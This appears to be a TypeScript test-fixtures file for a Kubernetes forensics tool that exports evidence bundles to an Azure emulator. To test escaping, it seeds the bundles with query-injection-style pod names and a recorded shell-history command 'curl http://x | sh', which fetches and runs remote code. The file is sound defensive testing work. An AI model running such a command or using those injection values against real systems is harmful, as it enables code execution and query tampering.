// Shared fixtures for the Azure tests: a small hostile bundle, an emulator connection, local timeline rows.
import { BundleWriter, newSnapshotId } from '../../support/v1BundleWriter.js';
import { openBundle } from '../../../src/core/evidence/reader.js';
import { clusterEvents, commandHistory, containerLogs, podInventory, rbacBindings, suspiciousPods, TABLES } from '../../../src/core/schema/tables.js';
import { compareTimelineRows, matchesFilter, toTimelineRow } from '../../../src/core/timeline/rows.js';
import type { TimelineFilter } from '../../../src/core/timeline/filter.js';
import type { TimelineRow } from '../../../src/core/schema/timeline.js';
import { testConnection, type AzureConnection } from '../../../src/core/azure/credentials.js';
import { provision, type ProvisionRequest, type ProvisionRun } from '../../../src/core/azure/provision.js';
import type { AzureState } from '../../../src/core/azure/state.js';
import { randomBytes } from 'node:crypto';
import assert from 'node:assert/strict';
import type { AzureEmulator } from '../../emulators/azure/server.js';
import { tempDir } from '../../support/tempDir.js';

/** Names an attacker could give a pod or container, or a user could type. */
export const HOSTILE = ['evil"pod', 'back\\slash', 'new\nline | take 1', "quote'single", 'x" or 1==1 or "', 'where', 'union', 'ünïcødé-名前', 'tab\tand\u0001ctl'];

const common = (over: Record<string, unknown>) => ({ EventType: 'LogLine', Namespace: 'prod', PodName: 'web-1', ContainerName: 'app', Summary: '', Severity: '', TechniqueId: '', ...over });

export async function makeHostileBundle(): Promise<string> {
  const parent = await tempDir('kfs-azure-');
  const w = await BundleWriter.create(parent, {
    snapshotId: newSnapshotId(new Date()),
    cluster: { context: 'ctx', cluster: 'aks-test', server: 'https://127.0.0.1:1', user: 'u', identity: null },
    startedAt: new Date().toISOString(),
    options: { artifacts: ['containerLogs', 'events'], sinceSeconds: 3600, excludeNamespaces: [], concurrency: 2, execEnabled: false },
    toolVersion: '0.0.0-test',
  });
  const log = { Message: '', Previous: false, ContainerKind: 'container', Image: 'nginx:1', NodeName: 'node-1', LineNumber: 1, TimestampParsed: true, NonUtf8: false };
  let line = 0;
  for (const [i, name] of HOSTILE.entries()) {
    await w.write(containerLogs.name, {
      ...common({ PodName: name, ContainerName: name, Namespace: i % 2 ? 'prod' : 'kube-system', Summary: `line from ${name}` }),
      ...log,
      EventTime: `2026-03-01T10:00:0${i}.123456${i}Z`,
      Message: `GET /admin ${name}`,
      LineNumber: ++line,
    });
  }
  // Same instant in two tables, and a row with no time at all.
  await w.write(containerLogs.name, { ...common({ Summary: 'Exec into pod' }), ...log, EventTime: '2026-03-01T10:00:05.0000000Z', Message: 'sh', LineNumber: ++line });
  await w.write(containerLogs.name, { ...common({ Summary: 'no timestamp' }), ...log, EventTime: null, TimestampParsed: false, LineNumber: null });
  await w.write(clusterEvents.name, {
    ...common({ EventType: 'Warning', ContainerName: '', Summary: 'BackOff restarting failed container' }),
    EventTime: '2026-03-01T10:00:05.0000000Z',
    Reason: 'BackOff', Message: 'Back-off restarting', K8sEventType: 'Warning', InvolvedKind: 'Pod', InvolvedName: 'web-1', InvolvedUid: 'u1',
    FirstTimestamp: '2026-03-01T09:00:00.0000000Z', LastTimestamp: '2026-03-01T10:00:05.5000000Z', Count: 7, ReportingComponent: 'kubelet', ReportingInstance: 'node-1', Action: '', ApiSource: 'core/v1',
  });
  await w.write(podInventory.name, {
    ...common({ EventType: 'ContainerStarted', Summary: 'container app started' }),
    EventTime: '2025-11-02T08:00:00.0000000Z',
    Uid: 'p1', NodeName: 'node-1', Phase: 'Running', OwnerKind: 'ReplicaSet', OwnerName: 'web', ServiceAccountName: 'default', PodIP: '10.0.0.5', HostIP: '10.1.0.4',
    Containers: [{ name: 'app', image: 'nginx:1', privileged: true }], PodSecurity: { hostPID: true }, Labels: { app: 'web', 'evil"key': 'v\\al' }, Annotations: {}, RestartCount: 3, ExitCode: null, Reason: '',
  });
  await w.write(suspiciousPods.name, {
    ...common({ EventType: 'Finding', ContainerName: 'app', Summary: 'Privileged container', Severity: 'high', TechniqueId: 'MS-TA9013' }),
    EventTime: '2025-11-02T08:00:00.0000000Z',
    RuleId: 'privileged', FindingTitle: 'Privileged container', TechniqueName: 'Privileged container', Tactics: ['Privilege escalation'], ResourceKind: 'Pod', ResourceName: 'web-1',
    FieldPath: 'spec.containers[0].securityContext.privileged', FieldValue: 'true', Explanation: 'runs privileged', Baseline: false,
  });
  await w.write(rbacBindings.name, {
    ...common({ EventType: 'BindingCreated', Namespace: '', PodName: '', ContainerName: '', Summary: 'cluster-admin bound to system:anonymous' }),
    EventTime: '2025-06-01T00:00:00.0000000Z',
    BindingKind: 'ClusterRoleBinding', BindingName: 'oops', Uid: 'b1', RoleRefKind: 'ClusterRole', RoleRefName: 'cluster-admin', SubjectKind: 'User', SubjectName: 'system:anonymous', SubjectNamespace: '', Labels: {},
  });
  await w.write(commandHistory.name, {
    ...common({ EventType: 'Command', Summary: 'curl http://x | sh' }),
    EventTime: '2026-03-01T10:00:06.0000001Z',
    Command: 'curl http://x | sh', HistoryFile: '/root/.bash_history', Shell: 'bash', User: 'root', LineNumber: 4, TimeSource: 'bash-timestamp', FileModifiedTime: '2026-03-01T10:00:07.0000000Z', CollectionStatus: 'ok', StatusMessage: '',
  });
  await w.seal({ status: 'complete', endedAt: new Date().toISOString(), artifacts: {} });
  return w.dir;
}

/** The local timeline by rows.ts semantics: the reference every engine must equal. */
export async function localTimeline(dir: string, filter: TimelineFilter): Promise<TimelineRow[]> {
  const bundle = await openBundle(dir);
  const out: TimelineRow[] = [];
  for (const t of TABLES) {
    for await (const row of bundle.readTable(t.name)) {
      const r = toTimelineRow(t.name, row as unknown as Record<string, unknown>);
      if (matchesFilter(r, filter)) out.push(r);
    }
  }
  return out.sort(compareTimelineRows);
}

export function emulatorConnection(emu: AzureEmulator, token?: string): AzureConnection {
  return testConnection(token ? { ...emu.endpoints, token } : emu.endpoints);
}

/** Provisions into the emulator and returns the state as the state file holds it (with a checkpoint key). */
export async function provisionState(conn: AzureConnection, resourceGroup: string, opts: Partial<ProvisionRequest> = {}, run: ProvisionRun = FAST): Promise<AzureState> {
  const { state } = await provision(conn, { subscriptionId: conn.subscriptionId!, resourceGroup, ...opts }, run);
  assert.ok(state, 'provisioning returned the ids');
  return { ...state, checkpointKey: randomBytes(32).toString('hex') };
}

/** Fast timings for tests: the emulator answers at once. */
export const FAST = { pollIntervalMs: 5, retryBaseMs: 5 };

/** A bundle of n container log lines and n/10 events (many small batches with maxBatchBytes). */
export async function makeBundleOf(n: number): Promise<string> {
  const parent = await tempDir('kfs-azure-n-');
  const w = await BundleWriter.create(parent, {
    snapshotId: newSnapshotId(new Date()),
    cluster: { context: 'ctx', cluster: 'aks-n', server: 'https://127.0.0.1:1', user: 'u', identity: null },
    startedAt: new Date().toISOString(),
    options: { artifacts: ['containerLogs', 'events'], sinceSeconds: 3600, excludeNamespaces: [], concurrency: 2, execEnabled: false },
    toolVersion: '0.0.0-test',
  });
  for (let i = 0; i < n; i++) {
    await w.write(containerLogs.name, {
      ...common({ PodName: `web-${i % 7}`, Summary: `request ${i}` }),
      EventTime: new Date(Date.UTC(2026, 2, 1) + i * 1000).toISOString(),
      Message: `GET /item/${i} ${'x'.repeat(i % 300)}`, Previous: false, ContainerKind: 'container', Image: 'nginx:1', NodeName: 'node-1', LineNumber: i + 1, TimestampParsed: true, NonUtf8: false,
    });
    if (i % 10 === 0) {
      await w.write(clusterEvents.name, {
        ...common({ EventType: 'Normal', ContainerName: '', Summary: `Pulled ${i}` }),
        EventTime: new Date(Date.UTC(2026, 2, 1) + i * 1000).toISOString(),
        Reason: 'Pulled', Message: 'pulled', K8sEventType: 'Normal', InvolvedKind: 'Pod', InvolvedName: 'web-1', InvolvedUid: 'u', FirstTimestamp: null, LastTimestamp: null, Count: 1,
        ReportingComponent: 'kubelet', ReportingInstance: 'node-1', Action: '', ApiSource: 'core/v1',
      });
    }
  }
  await w.seal({ status: 'complete', endedAt: new Date().toISOString(), artifacts: {} });
  return w.dir;
}

/**
 * A bundle with rows in every one of the 11 tables (so both rules receive data), `perTable` rows
 * each; `badTimeAt` puts an impossible EventTime on that container-log row (the service refuses it).
 */
export async function makeAllTablesBundle(perTable = 3, badTimeAt?: number): Promise<string> {
  const parent = await tempDir('kfs-azure-all-');
  const w = await BundleWriter.create(parent, {
    snapshotId: newSnapshotId(new Date()),
    cluster: { context: 'ctx', cluster: 'aks-all', server: 'https://127.0.0.1:1', user: 'u', identity: null },
    startedAt: new Date().toISOString(),
    options: { artifacts: ['containerLogs', 'events'], sinceSeconds: 3600, excludeNamespaces: [], concurrency: 2, execEnabled: false },
    toolVersion: '0.0.0-test',
  });
  for (const t of TABLES) {
    for (let i = 0; i < perTable; i++) {
      const time = t.name === containerLogs.name && i === badTimeAt ? '2026-99-99T99:99:99Z' : new Date(Date.UTC(2026, 2, 1, 10, 0, i)).toISOString().replace('Z', '0000Z');
      await w.write(t.name, { ...common({ Summary: `${t.name} row ${i}` }), EventTime: time } as never);
    }
  }
  await w.seal({ status: 'complete', endedAt: new Date().toISOString(), artifacts: {} });
  return w.dir;
}
